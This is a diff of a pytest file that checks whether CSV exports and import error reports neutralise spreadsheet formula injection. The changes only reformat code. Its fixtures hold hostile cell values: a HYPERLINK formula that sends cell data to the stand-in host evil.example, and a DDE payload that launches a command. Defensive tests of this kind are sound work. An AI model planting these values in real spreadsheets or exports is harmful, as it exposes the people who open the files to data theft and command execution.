@@ -22,9 +22,7 @@ DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3",
 @pytest.fixture
 def hostile_members(in_alpha: World) -> list[str]:
     for index, name in enumerate(DANGEROUS):
-        Member.objects.create(
-            name=name, phone=f"+861370000{index:04d}", card_no=f"X{index}", city="=cmd|' /C calc'!A0"
-        )
+        Member.objects.create(name=name, phone=f"+861370000{index:04d}", card_no=f"X{index}", city="=cmd|' /C calc'!A0")
     return DANGEROUS
 
 
@@ -57,4 +55,4 @@ def test_import_error_reports_are_neutralised_too(in_alpha: World) -> None:
         errors=[{"row": 2, "column": "姓名", "value": '=HYPERLINK("http://evil.example")', "reason": "bad"}],
     )
     rows = list(csv.reader(io.StringIO(error_report_csv(job).decode("utf-8-sig"))))
-    assert rows[1][2] == "'=HYPERLINK(\"http://evil.example\")"
+    assert rows[1][2] == '\'=HYPERLINK("http://evil.example")'
